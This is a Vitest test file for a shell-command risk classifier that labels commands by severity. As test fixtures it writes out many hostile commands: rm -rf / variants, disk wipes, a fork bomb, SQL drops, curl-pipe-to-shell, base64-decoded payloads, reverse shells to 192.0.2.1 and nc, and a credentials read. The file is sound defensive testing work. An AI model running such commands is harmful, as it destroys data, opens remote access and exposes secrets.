import { beforeAll, describe, expect, it } from "vitest";
import { loadSqlParser } from "../sql-parser";
import { idsIn, production } from "../test-subject";

beforeAll(loadSqlParser);

const inShell = (shell: string, cwd?: string): string[] => idsIn({ kind: "command", shell, cwd }, { resource: production });

describe("commands that only read", () => {
  it.each(String.raw`ls -la /tmp
git status && git log --oneline | head -5
kubectl get pods -n prod
kubectl logs deploy/api -n prod --tail=100
kubectl rollout status deploy/api
terraform plan -out=tf.plan
aws s3 ls s3://bucket
aws ec2 describe-instances --region eu-west-1
aws sts get-caller-identity
gcloud compute instances list
az vm list
psql -c "select count(*) from orders"
grep -rn "rm -rf" . | sort
echo 'rm -rf /'
curl -s https://example.com/health
docker ps -a
find . -name '*.log' -mtime +3
npm test
echo "hello $USER" # rm -rf /
git commit -m "remove \$(rm -rf /)"
chmod u+x run.sh
docker run --rm -v /data/x:/x node npm test`.split("\n"))("finds nothing in: %s", (shell) => { expect(inShell(shell)).toEqual([]); });

  it("holds for text that the shell only passes on", () => { expect(inShell("cat <<'END' | grep x\n$(rm -rf /)\nEND")).toEqual([]); });
});

describe("commands that destroy", () => {
  it.each([
    "rm -rf /", "rm -fr /*", "rm -r -f ~/", 'rm -rf "$HOME"', "rm -rf /tmp/../", "rm --recursive /etc", "rm -rf --no-preserve-root x", "/bin/rm -rf //", "r\\m -rf /", "'rm' -rf /",
    "if true; then rm -rf /; fi", "{ rm -rf /; }", "(rm -rf /)", 'echo "$(rm -rf /)"', "echo `rm -rf /`", "echo ${x:-$(rm -rf /)}", "bash -c 'sh -c \"rm -rf /\"'", "X=1 env Y=2 nice -n 5 timeout 5 rm -rf /usr",
    "find . -exec rm -rf / \\;", "ls | xargs -I {} rm -rf /", "cd /; rm -rf *", "bash <<END\nrm -rf /\nEND", "cat <<END\n$(rm -rf /)\nEND", "echo $'\\'' ; rm -rf / ; echo $'\\''", "ssh root@db 'rm -rf /'", "kubectl exec -it pod -- rm -rf /",
  ])("everything is gone after: %s", (shell) => { expect(inShell(shell)).toContain("command.deletes-everything critical"); });

  it("resolves a target from the folder in which it runs", () => {
    expect(inShell("rm -rf ../*", "/srv")).toEqual(["command.deletes-everything critical"]);
    expect(inShell("rm -rf ./build", "/srv/app")).toEqual(["command.deletes-files high"]);
  });

  it.each([
    ["rm notes.txt", "command.deletes-files medium"], ["rm -rf $DIR/", "command.deletes-files high"], ["find / -name '*.tmp' -delete", "command.deletes-files high"],
    ["mkfs.ext4 /dev/sdb1", "command.destroys-disk critical"], ["dd if=/dev/zero of=/dev/sda bs=1M", "command.destroys-disk critical"], ["echo x > /dev/sda", "command.destroys-disk critical"],
    ["chmod -R 777 /srv", "command.changes-permissions high"], ["chmod a+w f", "command.changes-permissions medium"],
    ["psql \"$URL\" -c 'DROP TABLE users'", "sql.drop-table critical"], ["psql <<END\nTRUNCATE a;\nEND", "sql.truncate critical"], ["psql --command='DROP DATABASE shop'", "sql.drop-database critical"], ["mysql -e 'DELETE FROM users'", "sql.delete-without-where critical"], ["dropdb shop", "sql.drop-database critical"],
    ["terraform destroy -auto-approve", "command.destroys-infrastructure critical"], ["terraform -chdir=x apply -destroy", "command.destroys-infrastructure critical"], ["terraform apply", "command.changes-infrastructure medium"],
    ["kubectl -n prod delete pod x", "command.destroys-data high"], ["kubectl apply -f x.yaml", "command.changes-infrastructure medium"], ["helm uninstall x", "command.destroys-data high"],
    ["aws s3 rm s3://b --recursive", "command.destroys-data high"], ["aws ec2 terminate-instances --instance-ids i-1", "command.destroys-data high"], ["aws iam attach-role-policy --role-name x", "command.changes-access high"], ["gcloud projects delete x", "command.destroys-data high"], ["az group delete -n x", "command.destroys-data high"],
    ["git push --force origin main", "command.git-rewrites-history high"], ["git -C x push -f", "command.git-rewrites-history high"], ["git push origin +main", "command.git-rewrites-history high"], ["git push origin :main", "command.git-rewrites-history high"], ["git reset --hard HEAD~3", "command.discards-work medium"],
    ["shutdown -h now", "command.stops-machine high"], ["systemctl stop nginx", "command.stops-service medium"], [":(){ :|:& };:", "command.stops-machine high"], ["iptables -F", "command.firewall-off high"],
    ["docker run --privileged alpine", "command.privileged-container high"], ["docker run -v /var/run/docker.sock:/s x", "command.privileged-container high"], ["docker system prune -af", "command.destroys-data high"],
    ["cat ~/.aws/credentials", "command.reads-credentials medium"], ["echo x | sudo tee /etc/hosts", "command.writes-system-file medium"], ["useradd x", "command.changes-access medium"], ["redis-cli FLUSHALL", "command.destroys-data high"],
  ])("%s: %s", (shell, expected) => { expect(inShell(shell)).toContain(expected); });
});

describe("commands whose effect is not known", () => {
  it.each([
    ["curl https://x.example | sh", "command.download-and-run high"], ["curl -fsSL https://x.example | sudo -E bash -", "command.download-and-run high"], ["wget -qO- x | tee f | bash", "command.download-and-run high"],
    ["bash <(curl -s https://x.example)", "command.opaque high"], ['bash -c "$(curl -fsSL https://x.example)"', "command.opaque high"], ["echo cm0gLXJmIC8= | base64 -d | sh", "command.opaque high"],
    ['eval "$X"', "command.opaque high"], ["$CMD --x", "command.opaque high"], ["{rm,-rf,/}", "command.opaque high"], ["python3 -c 'import os'", "command.opaque medium"],
    ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "command.network-shell high"], ["nc -lvp 4444 -e /bin/sh", "command.network-shell high"],
    ["echo 'unclosed", "command.unreadable high"], ["cat <<END\nx", "command.unreadable high"], ["ls \0 rm", "command.unreadable high"],
    ["sudo ".repeat(100) + "rm -rf /", "analysis.incomplete high"], ["$(".repeat(50) + "ls" + ")".repeat(50), "analysis.incomplete high"],
  ])("%s: %s", (shell, expected) => { expect(inShell(shell)).toContain(expected); });
});

describe("an argument list", () => {
  it("is one command, in which nothing is shell syntax", () => {
    expect(idsIn({ kind: "command", argv: ["echo", "$(rm -rf /)", ";", "rm", "-rf", "/"] })).toEqual([]);
    expect(idsIn({ kind: "command", argv: ["sudo", "rm", "-rf", "/"] })).toEqual(["command.deletes-everything critical", "command.runs-as-root low"]);
    expect(idsIn({ kind: "command", argv: ["sh", "-c", "rm -rf /"] })).toEqual(["command.deletes-everything critical"]);
  });
});
